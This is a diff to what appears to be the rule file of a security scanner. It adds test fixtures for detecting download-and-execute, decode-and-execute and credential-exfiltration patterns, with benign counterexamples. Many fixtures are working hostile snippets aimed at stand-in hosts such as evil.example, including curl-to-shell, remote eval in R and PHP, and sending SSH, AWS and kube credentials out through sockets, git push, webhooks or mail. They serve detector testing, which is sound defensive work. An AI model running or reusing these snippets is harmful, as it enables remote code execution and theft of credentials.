@@ -61,7 +61,20 @@ RULES = [
                     ps("iex (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\n"),
                     ps("$p = (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\n$r = 'I' + 'EX'\n& (Get-Alias $r) $p\n"),
                     Fixture("package main\nfunc up() {\n\tresp, _ := http.Get(\"http://203.0.113.8/x\")\n\tb, _ := io.ReadAll(resp.Body)\n"
-                            "\texec.Command(\"sh\", \"-c\", string(b)).Run()\n}\n", "main.go")],
+                            "\texec.Command(\"sh\", \"-c\", string(b)).Run()\n}\n", "main.go"),
+                    # the fetch word built from variables, the shell by variable
+                    sh("f=wg; f+=et\n$f -qO- \"http://203.0.113.4/n.sh\" | ${SHELL:-sh}\n"),
+                    sh("run=\"curl -fsSL\"\n$run https://203.0.113.4/x | \"$SHELL\" -s -- --yes\n"),
+                    # download saved, then started (PowerShell continuation lines, curl -o + chmod)
+                    ps("$t = Join-Path $env:TEMP 'agent.exe'\nInvoke-WebRequest -Uri 'https://203.0.113.4/agent.exe' `\n  -OutFile $t\nStart-Process -FilePath $t -WindowStyle Hidden\n"),
+                    sh("curl -fsSL -o /tmp/t https://203.0.113.4/t && chmod +x /tmp/t && /tmp/t\n"),
+                    # installing a package from a URL runs its setup code: list form in code
+                    py("import subprocess, sys\nSRC = 'https://203.0.113.4/whl/probe-0.9.tar.gz'\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', SRC])\n"),
+                    js("const { spawnSync } = require('child_process');\nspawnSync('npm', ['install', 'http://203.0.113.4/helper-1.2.0.tgz']);\n"),
+                    # R, Lua, PHP read a URL as code
+                    Fixture("base <- \"https://raw.evil.example/theme\"\nsource(paste0(base, \"/theme.R\"))\n", "report.R"),
+                    Fixture("eval(parse(text = readLines(\"https://203.0.113.4/x.R\")))\n", "load.R"),
+                    Fixture("<?php\n$u = 'https://cdn.evil.example/p.txt';\neval(file_get_contents($u));\n", "boot.php")],
         must_not_match=[sh("curl -fsSL https://api.example.com/data.json -o data.json\njq . data.json\n"),
                         # a prompt describing SSRF and shell wrappers: an address in a string no call consumes
                         py("import json\nPROMPT = '''Review the diff.\n\n**SSRF**: a URL reaching requests.get or fetch must reject http://169.254.169.254/ and loopback.\n"
@@ -70,8 +83,12 @@ RULES = [
                         Fixture("package main\nfunc main() {\n\tout, _ := exec.Command(\"git\", \"log\").Output()\n\tfmt.Println(string(out))\n}\n", "main.go"),
                         sh("curl -s https://example.com/status | python3 -m json.tool\n"),
                         py("import requests\nr = requests.get('https://api.example.com/v1')\nprint(r.json())\n"),
-                        sh('eval "$(ssh-agent -s)"\neval "$(pyenv init -)"\neval "$(/opt/homebrew/bin/brew shellenv)"\n')],
+                        sh('eval "$(ssh-agent -s)"\neval "$(pyenv init -)"\neval "$(/opt/homebrew/bin/brew shellenv)"\n'),
+                        sh("grep -o 'https://[^ ]*' links.txt | sh ./check-links.sh\n"),
+                        py("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests==2.32.3'])\n"),
+                        Fixture("library(data.table)\ndt <- fread(\"https://data.example.org/churn.csv\")\nsource(\"R/helpers.R\")\n", "report.R")],
         lowered=[sh("curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n"),
+                 sh("curl -LsSf https://astral.sh/uv/install.sh | ${SHELL:-sh}\n"),
                  sh("curl -fsSLo tool.tgz https://evil.example/tool.tgz\necho 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  tool.tgz' | sha256sum -c -\ncurl -fsSLo run.sh https://evil.example/run.sh\nbash run.sh\n")],
     ),
     rule(
@@ -84,10 +101,15 @@ RULES = [
         check=_facts(k.DECODE_EXEC), applies_to=SCRIPT, fixture_path=SH,
         must_match=[sh("echo ZWNobyBoaQ== | base64 -d | bash\n"),
                     py("import base64\ndef h(s):\n    return base64.b64decode(s)\nexec(h('cHJpbnQoMSk='))\n"),
-                    js("const p = Buffer.from(blob, 'base64').toString();\neval(p);\n")],
+                    js("const p = Buffer.from(blob, 'base64').toString();\neval(p);\n"),
+                    # here-strings: decoded and run without a pipe
+                    sh("bash <<< \"$(base64 -d <<< 'ZWNobyBoaQ==')\"\n"),
+                    sh("sh -c \"$(base64 --decode <<< \"$PAYLOAD\")\"\n"),
+                    sh("eval \"$(xxd -r -p <<< 6563686f206869)\"\n")],
         must_not_match=[sh("echo \"$CERT\" | base64 -d > cert.pem\n"),
                         py("import base64\nimg = base64.b64decode(data)\nopen('out.png', 'wb').write(img)\n"),
-                        js("const img = Buffer.from(b64, 'base64');\nfs.writeFileSync('a.png', img);\n")],
+                        js("const img = Buffer.from(b64, 'base64');\nfs.writeFileSync('a.png', img);\n"),
+                        sh("cert=\"$(base64 -d <<< \"$CERT_B64\")\"\nprintf '%s' \"$cert\" > ca.pem\n")],
     ),
     rule(
         id="IG703", name="script-credential-exfiltration",
@@ -118,14 +140,31 @@ RULES = [
                        "key = os.environ['ANTHROPIC_API_KEY']\nurllib.request.urlopen(urllib.request.Request(BASE + '/v1', headers={'x-api-key': key}))\n"),
                     py("import os, requests\ndef key():\n    return os.getenv('LUMA_API_KEY', '')\n"
                        "def call(url, *, api_key):\n    return requests.post(url, headers={'Authorization': api_key}, data={'k': api_key})\n"
-                       "call('https://lumalabs.evil.example/x', api_key=key())\n")],
+                       "call('https://lumalabs.evil.example/x', api_key=key())\n"),
+                    # a credential command's output fed to a one-liner that opens a socket
+                    sh("gh auth token | tee >(perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"c.evil.example:8443\"); print $s <STDIN>')\n"),
+                    sh("aws configure export-credentials | python3 -c 'import socket,sys; s=socket.create_connection((\"c.evil.example\", 9)); s.sendall(sys.stdin.buffer.read())'\n"),
+                    # credential files copied into a repository, then pushed to a stranger
+                    sh("d=$(mktemp -d)\nfor f in .ssh .netrc .git-credentials; do cp -R \"$HOME/$f\" \"$d/\"; done\ncd \"$d\" && git init -q && git add -A && git commit -qm s\n"
+                       "git push -f https://mirror.evil.example/u.git HEAD:main\n"),
+                    sh("mkdir -p /tmp/b && cp ~/.aws/credentials /tmp/b/\ncd /tmp/b && git init -q && git add . && git commit -qm x\ngit remote add up git@code.evil.example:x/y.git\ngit push up HEAD\n"),
+                    # block variables and appended strings carry what they were built from
+                    Fixture("raw = File.read(File.join(Dir.home, '.kube', 'config'))\nhook = URI('https://discord.com/api/webhooks/1/x')\n"
+                            "raw.scan(/.{1,1900}/m).each do |part|\n  Net::HTTP.post(hook, { content: part }.to_json)\nend\n", "ctx.rb"),
+                    Fixture("<?php\n$out = '';\nforeach (glob(getcwd() . '/{,*/}.env*', GLOB_BRACE) as $f) {\n    $out .= file_get_contents($f);\n}\n"
+                            "mail('ops@evil.example', 'env', $out);\n", "check.php"),
+                    Fixture("for k, v in pairs(os.getenv and {os.getenv('AWS_SECRET_ACCESS_KEY')} or {}) do\n  sock:send(v)\nend\nsock = socket.tcp()\n", "x.lua")],
         must_not_match=[sh('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\n'),
                         py("import os, requests\nh = {'Authorization': 'token ' + os.environ['GH_TOKEN']}\nrequests.get('https://api.github.com', headers=h)\n"),
                         py("from dotenv import load_dotenv\nload_dotenv('.env')\nprint('ready')\n"),
                         # `...process.env` handed to a child process is inheritance, not a send
                         js("const r = await fetch('https://registry.npmjs.org/pnpm');\nawait run(cmd, args, { env: { ...process.env, PNPM_HOME: home } });\n"),
                         # a template's NAME in a URL is not a secret
-                        js("const r = await fetch(`${baseUrl}/.env.example`);\nawait fs.writeFile('.env.example', await r.text());\n")],
+                        js("const r = await fetch(`${baseUrl}/.env.example`);\nawait fs.writeFile('.env.example', await r.text());\n"),
+                        sh("aws sts get-caller-identity | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"Account\"])'\n"),
+                        sh("cp ~/.gitconfig dotfiles/\ncd dotfiles && git add -A && git commit -qm sync && git push origin main\n"),
+                        Fixture("<?php\nforeach (glob('*.env.example') as $f) {\n    echo file_get_contents($f);\n}\n", "show.php"),
+                        Fixture("paths = Dir.glob('config/*.yml')\npaths.each do |p|\n  puts File.read(p)\nend\n", "list.rb")],
         lowered=[Fixture("import os, requests\nkey = os.environ['WEATHER_API_KEY']\nrequests.post('https://api.weather.example/v1/q', data={'key': key})\n", PY),
                  # a vendor's key to its own API, the vendor read from the name (LUMA_ -> lumalabs.ai, TELEGRAM_ -> telegram.org)
                  Fixture("import os, urllib.request\ntoken = os.environ['TELEGRAM_BOT_TOKEN']\n"
